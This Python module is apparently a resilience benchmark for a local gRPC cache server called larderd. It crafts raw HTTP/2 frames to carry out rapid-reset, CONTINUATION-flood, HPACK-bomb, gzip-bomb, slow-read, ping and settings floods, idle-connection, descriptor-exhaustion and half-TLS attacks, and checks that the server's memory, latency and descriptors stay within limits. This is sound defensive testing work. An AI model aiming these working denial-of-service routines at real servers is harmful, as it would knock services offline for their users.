"""The hostile part of `./dev bench rpc`: what each attack costs a larderd, and the good client beside it.

Every attack goes on for as long as the good client is measured, with new connections where the server closes them. The
good client calls at a fixed rate, and its latency counts from when each call should have been sent. The attackers share
its core and give way to it: what they cost it is what they cost the server. What is judged: how much the server's memory
rises at most, how the good client's 99th percentile (the median of three turns) compares with the one of the turns before
and after without an attack, that no call of it fails, that the attackers' connections are closed, and that the server's
descriptors are what they were.
"""

import contextlib
import json
import os
import pathlib
import re
import resource
import socket
import ssl
import statistics
import subprocess
import tempfile
import threading
import time
import zlib

import program
import rig

SERVER_CORE, CALLER_CORE = 0, 1
SECONDS = 4
TURNS = 3  # the good client's figure is their median
RATE = 1_000
IDLE_CONNECTIONS = 10_000
WARM_UP_SECONDS = 1
# An attacker that was shut out comes again, so many times a second at most.
CONNECTIONS_PER_SECOND = 50
CROWD = 200
# Longer than a client may leave unread what it asked for.
PATIENCE_SECONDS = 80

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, GET_OR_LOAD = "/larder.v1.Cache/Get", "/larder.v1.Cache/GetOrLoad"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def prefixed(number, bits, first=0):
    """A whole number as HPACK writes it, after the bits of `first`."""
    most = (1 << bits) - 1
    if number < most:
        return bytes([first | number])
    out, number = [first | most], number - most
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


def literal(name, value, first=0x00):
    """A field that is not (0x00) or is (0x40) kept in the table."""
    name, value = (text.encode("latin-1") if isinstance(text, str) else text for text in (name, value))
    return bytes([first]) + prefixed(len(name), 7) + name + prefixed(len(value), 7) + value


def fields(path=GET, *more):
    return (b"\x83\x86" + literal(":path", path) + literal(":authority", "larder") + literal("te", "trailers") +
            literal("content-type", "application/grpc") + b"".join(more))


def request(key="good"):
    message = b"\x12" + bytes([len(key)]) + key.encode()  # GetRequest and GetOrLoadRequest: key
    return b"\0" + len(message).to_bytes(4, "big") + message


def headers(stream, block=None, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, fields() if block is None else block)


def call(stream, path=GET, key="good"):
    return headers(stream, fields(path)) + frame(DATA, END_STREAM, stream, request(key))


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs))


GREETING = PREFACE + settings() + frame(SETTINGS, ACK, 0)


class Attacker:
    """One hostile connection."""

    def __init__(self, address, greeting=GREETING):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.closed = False
        if greeting:
            self.send(greeting)

    def __enter__(self):
        return self

    def __exit__(self, *unused):
        self.socket.close()

    def send(self, data):
        """False when the server has closed the connection, or takes nothing more."""
        try:
            self.socket.sendall(data)
        except TimeoutError:
            return False
        except OSError:
            self.closed = True
        return not self.closed

    def send_all(self, pieces):
        for piece in pieces:
            if not self.send(piece):
                return

    def wait_for_end(self, seconds=PATIENCE_SECONDS, read=True):
        """True when the server ends the connection in that time."""
        until = time.monotonic() + seconds
        self.socket.settimeout(0.2)
        while not self.closed and time.monotonic() < until:
            try:
                if read:
                    self.closed = not self.socket.recv(1 << 16)
                else:
                    # Who does not read sees by sending, and what is sent is nothing that the server minds.
                    time.sleep(0.2)
                    self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))
            except TimeoutError:
                continue
            except OSError:
                self.closed = True
        return self.closed


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(attacker):
    stop = (8).to_bytes(4, "big")
    block = fields(GET_OR_LOAD)
    attacker.send_all(b"".join(headers(s, block) + frame(RST_STREAM, 0, s, stop) for s in range(first, first + 200, 2))
                      for first in range(1, 200_001, 200))


def continuation_flood(attacker):
    attacker.send(headers(1, flags=0))
    piece = frame(CONTINUATION, 0, 1, literal("a", "b")) * 100
    attacker.send_all(piece for _ in range(2_000))


def header_bomb(attacker):
    bomb = fields() + literal("a", "x" * 4_000, first=0x40) + b"\xbe" * 8_000
    attacker.send_all(headers(s, bomb) for s in streams(100))


def giant_string(attacker):
    attacker.send(headers(1, fields() + b"\x00\x01a" + prefixed((1 << 31) - 1, 7)))


def no_settings_ack(attacker):
    attacker.send_all(b"".join(call(s, GET_OR_LOAD) for s in range(first, first + 200, 2))
                      for first in range(1, 40_001, 200))


def no_window(attacker):
    attacker.send_all(call(s, key="large") for s in streams(1_000))


def slow_read(attacker):
    attacker.send_all(call(s, key="large") for s in streams(200))


def slow_headers(attacker):
    attacker.send(headers(1, flags=0))


def ping_flood(attacker):
    piece = frame(PING, 0, 0, b"12345678") * 500
    attacker.send_all(piece for _ in range(400))


def settings_flood(attacker):
    piece = settings((4, 65_535)) * 500
    attacker.send_all(piece for _ in range(400))


def window_overflow(attacker):
    attacker.send(frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - 1).to_bytes(4, "big")) * 2)


def half_requests(attacker):
    piece = frame(DATA, 0, 0, b"x" * 16_000)
    for s in streams(60):
        promise = headers(s) + frame(DATA, 0, s, b"\0\0\xf0\0\0")
        if not attacker.send(promise + (piece[:5] + s.to_bytes(4, "big") + piece[9:]) * 20):
            return


def gzip_bomb(attacker):
    packed = zlib.compress(b"\0" * (10 << 20), 9)
    message = b"\1" + len(packed).to_bytes(4, "big") + packed
    for s in streams(5_000):
        data = b"".join(frame(DATA, 0, s, message[i:i + 16_000]) for i in range(0, len(message), 16_000))
        if not attacker.send(headers(s, fields(GET, literal("grpc-encoding", "gzip"))) + data +
                             frame(DATA, END_STREAM, s)):
            return


def wrong_lengths(attacker):
    attacker.send(frame(SETTINGS, 0, 0, b"1234567") + (1 << 23).to_bytes(3, "big") + bytes([DATA, 0, 0, 0, 0, 1]))


def huge_headers(attacker):
    block = fields(GET_OR_LOAD, literal("much", "m" * 10_000), *(literal("again", "x") for _ in range(50)))
    attacker.send_all(headers(s, block) for s in streams(2_000))


def odd_values(attacker):
    block = fields(GET, literal("odd", "line\nand\0nothing"), literal("UPPER", "case"))
    attacker.send_all(headers(s, block) for s in streams(2_000))


def nothing(_attacker):
    pass


class Attack:
    def __init__(self, name, say, memory=64, greeting=GREETING, read=True, crowd=1):
        self.name, self.say, self.memory, self.greeting = name, say, memory, greeting
        self.read, self.crowd = read, crowd


ATTACKS = [
    Attack("rapid_reset", rapid_reset),
    Attack("continuation_flood", continuation_flood, memory=8),
    Attack("header_bomb", header_bomb, memory=8),
    Attack("giant_string", giant_string, memory=8),
    Attack("no_settings_ack", no_settings_ack, greeting=PREFACE + settings()),
    Attack("no_window", no_window, greeting=PREFACE + settings((4, 0)) + frame(SETTINGS, ACK, 0)),
    Attack("slow_read", slow_read, read=False, greeting=PREFACE + settings((4, (1 << 31) - 1)) + frame(
        SETTINGS, ACK, 0) + frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - 65_536).to_bytes(4, "big"))),
    Attack("slow_headers", slow_headers, memory=8, crowd=50),
    Attack("ping_flood", ping_flood),
    Attack("settings_flood", settings_flood),
    Attack("window_overflow", window_overflow),
    Attack("half_requests", half_requests),
    Attack("gzip_bomb", gzip_bomb),
    Attack("wrong_lengths", wrong_lengths),
    Attack("huge_headers", huge_headers, memory=8),
    Attack("odd_values", odd_values, memory=8),
    Attack("silence", nothing, greeting=b"", crowd=100),
]


class Watch:
    """A larderd whose memory and descriptors are looked at."""

    def __init__(self, server):
        self._proc = pathlib.Path(f"/proc/{server.process.pid}")

    def _status(self, field):
        text = (self._proc / "status").read_text(encoding="ascii")
        return int(re.search(rf"{field}:\s+(\d+) kB", text).group(1)) / 1024

    def resident(self):
        return self._status("VmRSS")

    def forget_peak(self):
        (self._proc / "clear_refs").write_text("5", encoding="ascii")

    def peak(self):
        return self._status("VmHWM")

    def descriptors(self):
        return len(list((self._proc / "fd").iterdir()))


class GoodClient:
    """`larder bench` for some seconds, beside whatever else goes on."""

    def __init__(self, address, *flags):
        command = ["taskset", "-c", str(CALLER_CORE), program.path("larder"), "--server", address, *flags, "bench",
                   "--json", "--rate", str(RATE), "--keys", "100", "--duration", f"{SECONDS}s", "--warmup", f"{WARM_UP_SECONDS}s",
                   "--connections", "2"]
        self._process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def __enter__(self):
        return self

    def __exit__(self, *unused):
        self._process.kill()
        self._process.wait()

    def running(self):
        return self._process.poll() is None

    def result(self):
        out, said = self._process.communicate(timeout=SECONDS + 60)
        try:
            part = json.loads(out)["parts"][0]
        except (ValueError, KeyError, IndexError) as error:
            raise rig.BenchError(f"larder bench: {said.decode()[-2000:]}") from error
        return part["latency"]["p99_seconds"] * 1e3, part["failed"]


def ended(attackers, good, wait, read=True):
    """How many of them the server does not end; where that is not waited for, none."""
    if wait:
        return sum(not each.wait_for_end(read=read) for each in attackers)
    while good.running() and not all([each.wait_for_end(0.2 / len(attackers), read) for each in attackers]):
        pass
    return 0


def strike(attack, address, good, wait):
    """Attacks for as long as the good client calls. The connections of it that the server did not end."""
    left_open = 0
    while good.running():
        begun = time.monotonic()
        with contextlib.ExitStack() as crowd:
            attackers = []
            for _ in range(attack.crowd):
                try:
                    attackers.append(crowd.enter_context(Attacker(address, attack.greeting)))
                except OSError:
                    continue
                attack.say(attackers[-1])
            left_open += ended(attackers, good, wait, attack.read)
        time.sleep(max(0, begun + attack.crowd / CONNECTIONS_PER_SECOND - time.monotonic()))
    return left_open


class Striker:
    """Runs an attack on a thread that gives way to the good client."""

    def __init__(self, attack, good, wait):
        self.left_open, self._error = 0, None

        def run():
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
            time.sleep(WARM_UP_SECONDS + 0.3)  # so that what is measured is the attack
            try:
                self.left_open = attack(good, wait)
            except (OSError, rig.BenchError) as error:
                self._error = error

        self._thread = threading.Thread(target=run)
        self._thread.start()

    def join(self):
        self._thread.join()
        if self._error is not None:
            raise rig.BenchError(f"the attack failed: {self._error}")
        return self.left_open


def back_to(count, least):
    until = time.monotonic() + 10
    while count() > least and time.monotonic() < until:
        time.sleep(0.1)
    return count() - least


def one(table, label, server, address, memory, attack, *flags):
    """Calm, attacks, calm; `attack(good, wait)` returns how many of its connections the server did not end."""
    watch = Watch(server)
    calm = []
    with GoodClient(address, *flags) as good:
        calm.append(good.result()[0])
    descriptors = watch.descriptors()
    resident = watch.resident()
    watch.forget_peak()
    p99, failed, left_open = [], 0, 0
    for turn in range(TURNS):
        with GoodClient(address, *flags) as good:
            striker = Striker(attack, good, wait=turn == 0)  # once is enough to see that they end
            one_p99, one_failed = good.result()
            left_open += striker.join()
        p99.append(one_p99)
        failed += one_failed
    rose = watch.peak() - resident
    over = back_to(watch.descriptors, descriptors)
    with GoodClient(address, *flags) as good:
        calm.append(good.result()[0])
    table.add(f"attack_{label}_memory", rose, "MiB", f"<= {memory}")
    table.add(f"attack_{label}_good_p99", statistics.median(p99) / statistics.mean(calm), f"of {statistics.mean(calm):.2f} ms", "<= 2")
    table.add(f"attack_{label}_left", left_open + over + failed, "open, failed", "<= 0")


def descriptors_shut(address):
    def attack(good, _wait):
        many = []
        try:
            while good.running():
                for _ in range(CROWD - len(many)):
                    with contextlib.suppress(OSError):
                        many.append(Attacker(address, b""))
                time.sleep(0.1)
        finally:
            for each in many:
                each.socket.close()
        return 0
    return attack


def idle(table, server, address):
    """Ten thousand connections that have greeted and say no more, and the good client beside them."""
    watch = Watch(server)
    with GoodClient(address) as good:
        calm = good.result()[0]
    descriptors, resident = watch.descriptors(), watch.resident()
    many = []
    try:
        while len(many) < IDLE_CONNECTIONS:
            many.append(Attacker(address))
        until = time.monotonic() + 10
        while watch.descriptors() < IDLE_CONNECTIONS and time.monotonic() < until:
            time.sleep(0.1)
        if watch.descriptors() < IDLE_CONNECTIONS:
            raise rig.BenchError("the server has not taken the idle connections")
        turns = []
        for _ in range(TURNS):
            with GoodClient(address) as good:
                turns.append(good.result())
        rose = watch.resident() - resident
    finally:
        for each in many:
            each.socket.close()
    table.add("attack_idle_memory", rose * 1024 / IDLE_CONNECTIONS, "KiB a connection", "<= 32")
    table.add("attack_idle_good_p99", statistics.median(turn[0] for turn in turns) / calm, f"of {calm:.2f} ms", "<= 2")
    table.add("attack_idle_left", back_to(watch.descriptors, descriptors) + sum(turn[1] for turn in turns),
              "open, failed", "<= 0")


def half_tls(address):
    hello = ssl.MemoryBIO()
    half = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="larder")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    first = hello.read()

    def attack(good, wait):
        attackers = []
        for _ in range(CROWD):
            attackers.append(Attacker(address, first))
        left = ended(attackers, good, wait)
        for each in attackers:
            each.socket.close()
        while good.running():
            time.sleep(0.05)
        return left
    return attack


def store_large(server):
    text = 'key: "large" value: "' + "v" * 200_000 + '"'
    rig.call(server, "larder.v1.Cache/Set", rig.protoc("encode", "larder.v1.SetRequest", text.encode()), None)


SETTINGS_OF_ALL = ("listen.loops=1", "listen.admin=off", "log.format=json")


def larderd(bin_dir, *more):
    return rig.larderd(bin_dir, SERVER_CORE, (*SETTINGS_OF_ALL, *more))


def larderd_command(bin_dir):
    command = [str(bin_dir / "larderd"), "--set", "listen.grpc=127.0.0.1:0"]
    for setting in SETTINGS_OF_ALL:
        command += ["--set", setting]
    return command


def started(server):
    server.wait_for_address(lambda s: rig.larderd_address(s, "native") if '"ready"' in s.stderr() else None)
    return server.address


def idle_part(bin_dir, table):
    with larderd(bin_dir, "limits.connections=20000", "limits.connections_per_peer=20000") as server:
        print("attack: idle", flush=True)
        idle(table, server, started(server))


def descriptors_part(bin_dir, table):
    with rig.Server(["prlimit", "--nofile=64:64", *larderd_command(bin_dir)], SERVER_CORE) as server:
        address = started(server)
        print("attack: descriptors", flush=True)
        one(table, "descriptors", server, address, 64, descriptors_shut(address))


def half_tls_part(bin_dir, table):
    with tempfile.TemporaryDirectory() as folder:
        key, certificate = pathlib.Path(folder) / "key.pem", pathlib.Path(folder) / "certificate.pem"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                        "-days", "1", "-subj", "/CN=bench", "-addext", "subjectAltName=IP:127.0.0.1",
                        "-keyout", str(key), "-out", str(certificate)], check=True, capture_output=True)
        with larderd(bin_dir, f"listen.tls.certificate_file={certificate}", f"listen.tls.key_file={key}") as server:
            address = started(server)
            print("attack: half_tls", flush=True)
            one(table, "half_tls", server, address, 64, half_tls(address), "--tls-ca", str(certificate))


def bench(bin_dir, table, only=()):
    """`only`: names of attacks; empty: all of them."""
    wanted = lambda name: not only or name in only  # noqa: E731
    os.sched_setaffinity(0, {CALLER_CORE})
    limit = IDLE_CONNECTIONS + 1_000
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(limit, resource.getrlimit(resource.RLIMIT_NOFILE)[0]),
                                                resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    with larderd(bin_dir) as server:
        address = started(server)
        store_large(server)
        for attack in filter(lambda each: wanted(each.name), ATTACKS):
            print(f"attack: {attack.name}", flush=True)
            one(table, attack.name, server, address, attack.memory,
                lambda good, wait, attack=attack: strike(attack, address, good, wait))
    if wanted("idle"):
        idle_part(bin_dir, table)
    if wanted("descriptors"):
        descriptors_part(bin_dir, table)
    if wanted("half_tls"):
        half_tls_part(bin_dir, table)
